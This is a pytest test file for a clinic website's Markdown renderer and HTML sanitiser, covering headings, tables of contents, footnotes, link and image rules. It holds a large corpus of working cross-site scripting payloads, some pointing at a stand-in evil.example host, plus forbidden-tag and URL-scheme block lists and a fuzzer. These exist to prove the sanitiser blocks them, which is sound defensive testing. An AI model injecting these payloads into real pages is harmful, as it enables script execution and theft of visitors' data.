"""Markdown rendering and sanitising (SPEC §5): what content editors rely on, what must never
reach a page whatever they paste, and time linear in what they paste (SPEC §14)."""

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from clinic.markdown import render_markdown, sanitise
from tests.pages import find_all, parse
from tests.timing import growth


def url_scheme(value):
    """The scheme a browser would act on: it drops tabs and newlines anywhere in a URL and
    leading spaces and control characters, and ignores case."""
    cleaned = "".join(ch for ch in value if ch not in "\t\n\r").lstrip("".join(map(chr, range(33))))
    scheme, sep, _ = cleaned.partition(":")
    if not sep or "/" in scheme or "?" in scheme or "#" in scheme:
        return ""
    return scheme.lower()


URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "srcdoc", "background", "poster", "xlink:href",
    "srcset", "cite", "codebase", "lowsrc", "dynsrc", "content",
}  # fmt: skip
FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
    "input", "button", "select", "textarea", "meta", "base", "link", "svg", "math", "template",
    "noscript", "xmp", "body", "html", "head", "title", "video", "audio", "source", "param",
}  # fmt: skip
FORBIDDEN_SCHEMES = {"javascript", "data", "vbscript", "livescript", "file"}


def assert_safe(output):
    lowered = output.lower()
    assert "<script" not in lowered
    for element in parse(output):
        assert element.tag not in FORBIDDEN_TAGS, (element.tag, output)
        for name in element.attrs:
            assert not name.startswith("on"), (element.tag, name, output)
            assert name not in {"style", "srcdoc", "formaction", "action"}, (name, output)
        for name, value in element.attrs.items():
            if name in URL_ATTRIBUTES and value is not None:
                assert url_scheme(value) not in FORBIDDEN_SCHEMES, (name, value, output)


def html_of(text, **kw):
    return render_markdown(text, **kw).html


@pytest.fixture(autouse=True)
def site_url(settings):
    settings.SITE_URL = "https://clinic.example"


# --- Headings and the table of contents ----------------------------------------------------------


def test_section_headings_get_anchor_ids():
    headings = find_all(parse(html_of("## What is SLE?\n\ntext\n\n### Living with lupus")), "h2")
    assert [h.attrs.get("id") for h in headings] == ["what-is-sle"]
    assert find_all(parse(html_of("## What is SLE?\n\n### Living with lupus")), "h3")[0].attrs == {
        "id": "living-with-lupus"
    }


def test_repeated_headings_get_distinct_ids():
    headings = find_all(parse(html_of("## Risks\n\n## Risks\n\n## Risks")), "h2")
    ids = [h.attrs["id"] for h in headings]
    assert len(set(ids)) == 3


def test_a_hash_heading_becomes_h2_so_the_page_title_stays_the_only_h1():
    output = html_of("# Pasted title\n\ntext\n\n<h1>Raw HTML title</h1>\n\n<H1>Shouting</H1>")
    assert find_all(parse(output), "h1") == []
    assert [h.tag for h in parse(output) if h.tag.startswith("h")] == ["h2", "h2", "h2"]


def test_sections_nest_below_h2():
    tags = [e.tag for e in parse(html_of("## A\n\n### B\n\n#### C\n\n###### F"))]
    assert tags == ["h2", "h3", "h4", "h6"]


def test_top_heading_3_shifts_every_level_down_one():
    output = html_of("# T\n\n## A\n\n### B\n\n#### C\n\n##### D\n\n###### E", top_heading=3)
    tags = [e.tag for e in parse(output)]
    assert tags == ["h3", "h3", "h4", "h5", "h6", "h6"]


def test_top_heading_3_shifts_pasted_html_headings_too():
    output = html_of("<h1>Raw</h1>\n\n<h2>Raw two</h2>", top_heading=3)
    assert [e.tag for e in parse(output)] == ["h3", "h3"]


def test_there_is_no_table_of_contents_for_fewer_than_three_sections():
    assert render_markdown("## One\n\ntext\n\n## Two\n\ntext").toc_html == ""
    assert render_markdown("Just a paragraph.").toc_html == ""
    assert render_markdown("").toc_html == ""


def test_subsections_do_not_count_towards_the_table_of_contents():
    assert render_markdown("## One\n\n### One a\n\n### One b\n\n## Two").toc_html == ""


def test_three_sections_get_a_table_of_contents_linking_to_their_ids():
    rendered = render_markdown("## What is SLE?\n\n## Symptoms\n\n### Skin\n\n## Treatment")
    links = find_all(parse(rendered.toc_html), "a")
    assert [a.attrs["href"] for a in links] == ["#what-is-sle", "#symptoms", "#treatment"]
    body_ids = {e.attrs.get("id") for e in parse(rendered.html)}
    assert {a.attrs["href"][1:] for a in links} <= body_ids
    assert find_all(parse(rendered.toc_html), "ol")[0].attrs == {"class": "toc-list"}
    assert "Symptoms" in rendered.toc_html and "Skin" not in rendered.toc_html


def test_table_of_contents_escapes_heading_text_exactly_once():
    rendered = render_markdown(
        '## Fish & chips\n\n## Say "hi"\n\n## Before &lt;script&gt;alert(1)&lt;/script&gt;'
    )
    toc = rendered.toc_html
    assert "Fish &amp; chips" in toc
    assert "&amp;amp;" not in toc
    assert "Say &quot;hi&quot;" in toc
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in toc
    assert "<script" not in toc
    assert_safe(toc)


def test_table_of_contents_is_safe_when_headings_carry_html():
    rendered = render_markdown(
        "## <img src=x onerror=alert(1)> Images\n\n## <b onclick=alert(1)>Bold</b>\n\n"
        "## <a href='javascript:alert(1)'>Link</a>"
    )
    assert len(find_all(parse(rendered.toc_html), "li")) == 3
    assert_safe(rendered.toc_html)
    assert "onerror" not in rendered.toc_html and "javascript" not in rendered.toc_html


def test_a_heading_that_starts_with_a_number_keeps_its_anchor_and_toc_entry():
    rendered = render_markdown("## 5-year results\n\n## Risks\n\n## Costs")
    assert find_all(parse(rendered.html), "h2")[0].attrs.get("id")
    assert len(find_all(parse(rendered.toc_html), "li")) == 3


# --- Tables, footnotes, lists, emphasis ----------------------------------------------------------


def test_tables_keep_alignment_as_an_attribute_not_a_style():
    output = html_of("| Outcome | Share |\n|:--|--:|\n| Alive | 84 % |")
    cells = find_all(parse(output), "th") + find_all(parse(output), "td")
    assert [c.attrs for c in cells] == [
        {"align": "left"},
        {"align": "right"},
        {"align": "left"},
        {"align": "right"},
    ]
    assert "style" not in output
    assert [e.tag for e in parse(output)][:2] == ["table", "thead"]


def test_footnotes_link_to_the_note_and_back():
    output = html_of("Survival was high.[^1]\n\n[^1]: Wang et al., 2018.")
    ref = find_all(parse(output), "sup")[0]
    links = find_all(parse(output), "a")
    forward = next(a for a in links if a.attrs.get("class") == "footnote-ref")
    back = next(a for a in links if a.attrs.get("class") == "footnote-backref")
    note = next(li for li in find_all(parse(output), "li") if li.attrs.get("id"))
    assert forward.attrs["href"] == "#" + note.attrs["id"]
    assert back.attrs["href"] == "#" + ref.attrs["id"]
    assert back.attrs["title"] == "Back to the text of note 1"
    assert find_all(parse(output), "div")[0].attrs == {"class": "footnote"}
    assert "Wang et al., 2018." in output


def test_lists_render_ordered_unordered_and_nested():
    output = html_of("- painful joints\n- fever\n    - high\n\n1. first\n2. second")
    assert [e.tag for e in parse(output)] == ["ul", "li", "li", "ul", "li", "ol", "li", "li"]


def test_an_ordered_list_keeps_its_start_number():
    assert find_all(parse(html_of("3. third\n4. fourth")), "ol")[0].attrs == {"start": "3"}


def test_emphasis_and_strong_render():
    output = html_of("Some *gentle* and **strong** words, and ~~no~~ `code`.")
    assert "<em>gentle</em>" in output
    assert "<strong>strong</strong>" in output
    assert "<code>code</code>" in output


def test_code_blocks_show_html_as_text():
    output = html_of("Write `<script>` like this:\n\n    <script>alert(1)</script>\n")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in output
    assert find_all(parse(output), "script") == []


# --- Links ---------------------------------------------------------------------------------------


def links_of(text):
    return {a.attrs.get("href"): a.attrs for a in find_all(parse(html_of(text)), "a")}


@pytest.mark.parametrize(
    "href",
    [
        "https://pubmed.ncbi.nlm.nih.gov/29478901/",
        "http://example.org/page",
        "HTTPS://EXAMPLE.ORG/",
        "https://clinic.example.evil.example/",
        "https://evil.example/?next=https://clinic.example/",
    ],
)
def test_external_links_get_noopener_noreferrer(href):
    links = links_of(f"[a paper]({href})")
    assert links[href]["rel"] == "noopener noreferrer"


@pytest.mark.parametrize(
    "href",
    [
        "/conditions/systemic-lupus-erythematosus/",
        "../research/",
        "#symptoms",
        "https://clinic.example/privacy/",
        "https://CLINIC.example/inquire/",
        "mailto:info@clinic.example",
        "tel:+15551234567",
    ],
)
def test_internal_and_mailto_links_get_no_rel(href):
    links = links_of(f"[here]({href})")
    assert href in links
    assert "rel" not in links[href]


def test_a_rel_pasted_on_an_internal_link_is_removed():
    links = links_of('<a href="/privacy/" rel="opener">privacy</a>')
    assert links["/privacy/"] == {"href": "/privacy/"}


def test_a_rel_pasted_on_an_external_link_is_replaced():
    links = links_of('<a href="https://evil.example/" rel="opener">x</a>')
    assert links["https://evil.example/"]["rel"] == "noopener noreferrer"


def test_bare_urls_become_external_links():
    links = links_of("See https://pubmed.ncbi.nlm.nih.gov/24661633/ for details.")
    assert links["https://pubmed.ncbi.nlm.nih.gov/24661633/"]["rel"] == "noopener noreferrer"


def test_link_titles_are_kept():
    links = links_of('[paper](https://doi.org/10.1186/ar4520 "The paper")')
    assert links["https://doi.org/10.1186/ar4520"]["title"] == "The paper"


def test_links_with_other_schemes_lose_their_href():
    for href in ["ftp://example.org/file", "file:///etc/passwd", "javascript:alert(1)"]:
        anchors = find_all(parse(html_of(f"[x]({href})")), "a")
        assert [a.attrs for a in anchors] == [{}], href


def test_protocol_relative_links_to_other_sites_count_as_external():
    assert links_of("[x](//evil.example/)")["//evil.example/"]["rel"] == "noopener noreferrer"


# --- Images --------------------------------------------------------------------------------------


def test_images_served_by_the_site_keep_their_src():
    images = find_all(parse(html_of('![MSC chart](/static/img/chart.png "A chart")')), "img")
    assert images[0].attrs == {
        "alt": "MSC chart",
        "src": "/static/img/chart.png",
        "title": "A chart",
    }


@pytest.mark.parametrize(
    "src",
    [
        "https://tracker.example/pixel.png",
        "http://clinic.example/static/x.png",
        "//tracker.example/pixel.png",
        "data:image/png;base64,iVBORw0KGgo=",
        "javascript:alert(1)",
        "static/relative.png",
    ],
)
def test_images_from_anywhere_else_lose_their_src(src):
    images = find_all(parse(html_of(f"![alt text]({src})")), "img")
    assert images[0].attrs == {"alt": "alt text"}


@pytest.mark.parametrize(
    "snippet",
    [
        "![x](/\\tracker.example/pixel.png)",
        '<img src="/\\tracker.example/pixel.png">',
        '<img src="/&#9;/tracker.example/pixel.png">',
        '<img src="/&#10;/tracker.example/pixel.png">',
    ],
)
def test_images_that_browsers_would_fetch_from_another_host_lose_their_src(snippet):
    for image in find_all(parse(html_of(snippet)), "img"):
        assert "src" not in image.attrs


# --- Attributes that could restyle or take over the page -----------------------------------------


@pytest.mark.parametrize("reserved", ["main", "content", "toc", "inquiry", "inquiry-form"])
def test_content_cannot_take_the_ids_of_the_page_frame(reserved):
    output = html_of(f'<h2 id="{reserved}">Hijack</h2>\n\n## {reserved.title()}')
    assert all(e.attrs.get("id") != reserved for e in parse(output))


@pytest.mark.parametrize("frame_id", ["toc-heading", "inquiry-heading"])
def test_content_cannot_take_the_heading_ids_of_the_condition_page(frame_id):
    output = html_of(f'<h2 id="{frame_id}">Hijack</h2>')
    assert all(e.attrs.get("id") != frame_id for e in parse(output))


def test_ids_are_only_kept_on_headings_footnotes_and_list_items():
    output = html_of('<p id="x1">a</p><div id="x2">b</div><a id="x3" href="/">c</a>')
    assert all("id" not in e.attrs for e in parse(output))


def test_classes_are_limited_to_the_ones_footnotes_use():
    output = html_of(
        '<div class="position-fixed top-0 start-0 w-100 h-100 bg-danger">x</div>\n\n'
        '<div class="footnote position-fixed">y</div>\n\n'
        '<a class="btn btn-primary stretched-link" href="/">z</a>\n\n'
        '<p class="d-none">hidden</p>'
    )
    assert all("class" not in e.attrs for e in parse(output))
    assert "hidden" in output


def test_the_text_of_stripped_tags_stays_readable():
    output = html_of('<span style="color:red" onclick="x()">Call <font>us</font></span>')
    assert "Call us" in output
    assert "span" not in output and "font" not in output


def test_hidden_elements_are_dropped_with_their_content_up_to_their_own_closing_tag():
    output = sanitise(
        "<p>Before</p><STYLE>p { color: red }</style >"
        "<script>no()</script><svg><title>Logo</title></svg><p>After</p>"
    )
    assert output == "<p>Before</p><p>After</p>"


def test_an_unclosed_hidden_element_leaves_no_markup_and_the_next_one_is_still_dropped():
    output = sanitise("<p>One</p><script>x()<p>Two</p><style>a{}</style><p>Three</p>")
    assert "<script" not in output.lower() and "<style" not in output.lower()
    assert "a{}" not in output


@pytest.mark.parametrize("opening", ["<script>", "<svg>"])
def test_the_time_to_sanitise_grows_linearly_with_unclosed_hidden_elements(opening):
    def page(size):
        return "<p>Lupus is a disease that can make you tired.</p>\n" * size + opening * (10 * size)

    ratio = growth(sanitise, page, size=60, limit=30)

    # About tenfold for a text ten times longer; a scan to the end per opening is a hundredfold.
    assert ratio < 30


# --- The hostile corpus --------------------------------------------------------------------------

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script-mixed-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-src-upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-unclosed": "<script>alert(1)",
    "script-newline-in-tag": "<script\n>alert(1)</script\n>",
    "script-nested-split": "<scr<script></script>ipt>alert(1)</script>",
    "script-slash-attr": "<script/x>alert(1)</script>",
    "script-module": "Text\n\n<script type=module>import('//evil.example')</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-upper": '<img src="/ok.png" ONERROR="alert(1)">',
    "body-onload": "<body onload=alert(1)>hello</body>",
    "p-onclick": "<p onclick=alert(1)>click</p>",
    "a-onmouseover": '<a href="/" onmouseover="alert(1)">hover</a>',
    "div-slash-onmouseover": "<div/onmouseover='alert(1)'>x</div>",
    "td-on": '<table><tr><td onclick="x()" style="color:red">1</td></tr></table>',
    "h2-onfocus": "<h2 onfocus=alert(1) tabindex=0 autofocus>Hi</h2>",
    "details-ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "a-javascript": '<a href="javascript:alert(1)">x</a>',
    "a-javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "a-javascript-tab-entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "a-javascript-newline-entity": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "a-javascript-decimal-entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'
    ),
    "a-javascript-named-colon": '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    "a-javascript-leading-control": '<a href=" \x01javascript:alert(1)">x</a>',
    "img-javascript": "<IMG SRC=JaVaScRiPt:alert(1)>",
    "a-data": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "img-data": '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    "iframe-unclosed": '<IFRAME SRC="javascript:alert(1)">',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "style-element": "<style>body{display:none}</style>",
    "style-unclosed": "<STYLE>@import 'https://evil.example/x.css';",
    "style-attr": '<p style="position:fixed;inset:0;z-index:9999">cover</p>',
    "css-expression": '<div style="width: expression(alert(1))">x</div>',
    "css-url": '<div style="background:url(javascript:alert(1))">x</div>',
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "math-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math-href": '<math href="javascript:alert(1)">x</math>',
    "form-input-button": (
        '<form action="https://evil.example/"><input name="password" type="password">'
        '<button formaction="javascript:alert(1)">Send</button></form>'
    ),
    "input-autofocus": "<input onfocus=alert(1) autofocus>",
    "select": "<select><option>a</option></select><textarea>b</textarea>",
    "meta": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="https://evil.example/">',
    "link-css": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "md-link-javascript": "[click](javascript:alert(1))",
    "md-link-javascript-upper": "[click](JAVASCRIPT:alert(1))",
    "md-link-javascript-spaces": "[click]( javascript:alert(1) )",
    "md-link-javascript-entity": "[click](javascript&#58;alert(1))",
    "md-reference-javascript": "[click][ref]\n\n[ref]: javascript:alert(1)",
    "md-image-data": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "md-link-data": "[x](data:text/html,<script>alert(1)</script>)",
    "md-link-vbscript": "[x](vbscript:msgbox)",
    "md-image-attr-breakout": '![x](/ok.png" onerror="alert(1))',
    "autolink-javascript": "<javascript:alert(1)>",
    "autolink-data": "<data:text/html,<script>alert(1)</script>>",
    "comment-script": "<!-- <script>alert(1)</script> -->",
    "comment-breakout": "<!--><img src=x onerror=alert(1)>-->",
    "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "xmp": "<xmp><script>alert(1)</script></xmp>",
    "template-element": "<template><script>alert(1)</script></template>",
    "django-template-tags": "{% load static %}{{ request.user }}{% csrf_token %}",
    "video-source": "<video><source onerror=alert(1)></video>",
    "id-main": '<h2 id="main">Hijack</h2>',
    "class": '<div class="position-fixed top-0 start-0 w-100 h-100">x</div>',
    "a-ping": '<a href="/" target="_blank" ping="https://evil.example/">x</a>',
}


@pytest.mark.parametrize("snippet", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_input_renders_safe(snippet):
    for wrapped in (snippet, f"## Section\n\nSome text {snippet} more.\n\n- item {snippet}"):
        output = html_of(wrapped)
        assert_safe(output)
        assert_safe(html_of(wrapped, top_heading=3))
        assert_safe(sanitise(wrapped))
        for element in parse(output):
            assert "style" not in element.attrs
            assert element.attrs.get("id") != "main"
            assert set(element.attrs.get("class", "").split()) <= {
                "footnote",
                "footnote-ref",
                "footnote-backref",
            }
            if element.tag == "img" and "src" in element.attrs:
                assert element.attrs["src"].startswith("/")
                assert not element.attrs["src"].startswith("//")


def test_the_hostile_corpus_is_large_enough():
    assert len(set(HOSTILE.values())) >= 25


# --- Property: whatever is pasted, the output is safe --------------------------------------------

FRAGMENTS = st.sampled_from(
    [
        "<script>", "</script>", "<SCRIPT", "<scr", "ipt>", "<style>", "</style>", "<iframe",
        "<svg", "<math>", "<img", " src=", " onerror=", " onload=", " ONCLICK=", "alert(1)",
        "javascript:", "JaVaScRiPt:", "jav&#x09;ascript:", "&#106;avascript:", "data:", "DATA:",
        "vbscript:", " style=", '"', "'", "`", "=", ">", "<", "/", "<!--", "-->", "<![CDATA[",
        "]]>", "<a href=", "</a>", "[x](", "](", ")", "![i](", "<", "> ", "## ", "# ", "\n",
        "\n\n", "    ", "*", "**", "_", "[^1]", "[^1]: ", "| a | b |\n|--|--|\n", "- ", "1. ",
        "&", "&amp;", "&lt;", "\\", "<p ", "<div ", "<h1>", "<details ontoggle=", "<form>",
        "<input", "<base href=", "<meta ", "<link ", "<object", "<embed", "<template>",
    ]
)  # fmt: skip
# Whole tags built from parts, so that attributes land inside a tag often enough to matter.
TAGS = st.builds(
    "<{}{}>".format,
    st.sampled_from(["p", "a", "img", "h2", "td", "div", "li", "sup", "SCRIPT", "svg", "iframe"]),
    st.lists(
        st.builds(
            " {}={}{}{}".format,
            st.sampled_from(
                ["href", "src", "onerror", "ONCLICK", "onload", "style", "id", "class"]
            ),
            st.sampled_from(["", '"', "'"]),
            st.sampled_from(
                ["javascript:alert(1)", "JaVa&#x09;ScRiPt:x", "data:text/html,x", "/ok.png",
                 "https://evil.example/", "color:red", "main", "footnote", "vbscript:x"]
            ),
            st.sampled_from(["", '"', "'"]),
        ),
        max_size=3,
    ).map("".join),
)  # fmt: skip
PASTED = st.lists(st.one_of(st.text(max_size=12), FRAGMENTS, TAGS), max_size=20).map("".join)


@hypothesis_settings(
    max_examples=200,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(text=st.one_of(st.text(), PASTED))
def test_no_pasted_text_produces_scripts_handlers_or_dangerous_urls(text):
    for output in (html_of(text), html_of(text, top_heading=3), render_markdown(text).toc_html):
        assert_safe(output)
